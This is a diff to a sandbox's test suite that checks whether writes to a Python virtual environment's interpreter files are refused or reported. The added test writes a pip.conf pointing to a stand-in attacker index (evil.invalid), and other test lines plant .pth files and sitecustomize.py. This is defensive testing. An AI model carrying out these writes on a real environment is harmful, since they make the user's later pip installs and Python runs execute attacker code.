@@ -41,9 +41,13 @@ const ATTEMPTS = [
   ['cfg', `echo 'home = /tmp/evil' >> .venv/pyvenv.cfg`],
   ['package', `echo 'x = 1' >> ${SITE}/pkg/__init__.py`],
   ['script', `echo '#!/bin/sh' > .venv/bin/mytool`],
+  // hostc41: pip reads the environment's own `pip.conf` (its "site" configuration, sys.prefix's)
+  // on every pip command run with it: an `index-url` makes the host's next `pip install` fetch
+  // the package from there and run its setup.py.
+  ['pipconf', `printf '[global]\\nindex-url = http://evil.invalid/simple\\n' > .venv/pip.conf`],
 ].map(([label, cmd]) => `if ( ${cmd} ) 2>/dev/null; then echo ok ${label}; else echo refused ${label}; fi`).join('\n')
 
-const REPORTED = [`${SITE}/zz_planted.pth`, `${SITE}/distutils-precedence.pth`, `${SITE}/sitecustomize.py`]
+const REPORTED = [`${SITE}/zz_planted.pth`, `${SITE}/distutils-precedence.pth`, `${SITE}/sitecustomize.py`, '.venv/pip.conf']
 
 describe("a virtual environment's interpreter files", () => {
   for (const mode of ['bwrap', 'landlock']) {
@@ -55,13 +59,16 @@ describe("a virtual environment's interpreter files", () => {
       const r = await sh(ATTEMPTS, options)
       assert.equal(r.exitCode, 0, show(r))
       const lines = r.stdout.trim().split('\n')
-      for (const label of ['pth', 'pth-append', 'sitecustomize', 'package', 'script']) assert.ok(lines.includes(`ok ${label}`), `${label}: ${show(r)}`)
+      // The Landlock mode refuses a new entry at the environment's top (it holds the read-only
+      // pyvenv.cfg): a new pip.conf there is refused, not reported.
+      const written = ['pth', 'pth-append', 'sitecustomize', 'package', 'script', ...(mode === 'bwrap' ? ['pipconf'] : [])]
+      for (const label of written) assert.ok(lines.includes(`ok ${label}`), `${label}: ${show(r)}`)
       // The Landlock mode cannot keep a file of `bin` read-only without `bin` taking no new
       // entries (pip's scripts): it reports bin/activate changed instead.
-      const refused = mode === 'bwrap' ? ['activate', 'cfg'] : ['cfg']
+      const refused = mode === 'bwrap' ? ['activate', 'cfg'] : ['cfg', 'pipconf']
       for (const label of refused) assert.ok(lines.includes(`refused ${label}`), `${label}: ${show(r)}`)
       assert.equal(fs.readFileSync(path.join(tree.ws, '.venv/pyvenv.cfg'), 'utf8').includes('evil'), false)
-      const reported = mode === 'bwrap' ? REPORTED : [...REPORTED, '.venv/bin/activate']
+      const reported = mode === 'bwrap' ? REPORTED : [...REPORTED.filter((p) => p !== '.venv/pip.conf'), '.venv/bin/activate']
       for (const rel of reported) {
         const risk = r.hostRisks.find((h) => h.path === path.join(tree.ws, rel))
         assert.ok(risk, `${rel} is reported: ${JSON.stringify(r.hostRisks, null, 1)}`)
@@ -75,7 +82,8 @@ describe("a virtual environment's interpreter files", () => {
   test('an ordinary run in a workspace with a virtual environment reports nothing', async (t) => {
     const tree = tempTree(t)
     makeVenv(tree.ws)
-    const r = await sh(`echo 'x = 2' >> ${SITE}/pkg/__init__.py && echo done`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' } })
+    // A pip.conf outside an environment is no environment's: pip does not read it.
+    const r = await sh(`echo 'x = 2' >> ${SITE}/pkg/__init__.py && mkdir docs && echo '[global]' > docs/pip.conf && echo done`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' } })
     assert.equal(r.stdout, 'done\n', show(r))
     assert.deepEqual(r.hostRisks, [])
   })
@@ -91,6 +99,7 @@ describe("a virtual environment's interpreter files", () => {
     const applied = await sandspawn.applyChangeSet(r.changeSet.id, {})
     assert.equal(fs.existsSync(path.join(tree.ws, SITE, 'zz_planted.pth')), false)
     assert.equal(fs.existsSync(path.join(tree.ws, SITE, 'sitecustomize.py')), false)
+    assert.equal(fs.existsSync(path.join(tree.ws, '.venv/pip.conf')), false)
     assert.equal(fs.readFileSync(path.join(tree.ws, '.venv/bin/activate'), 'utf8').includes('touch'), false)
     assert.equal(fs.readFileSync(path.join(tree.ws, '.venv/pyvenv.cfg'), 'utf8').includes('evil'), false)
     assert.equal(fs.readFileSync(path.join(tree.ws, SITE, 'pkg/__init__.py'), 'utf8'), 'x = 1\n')
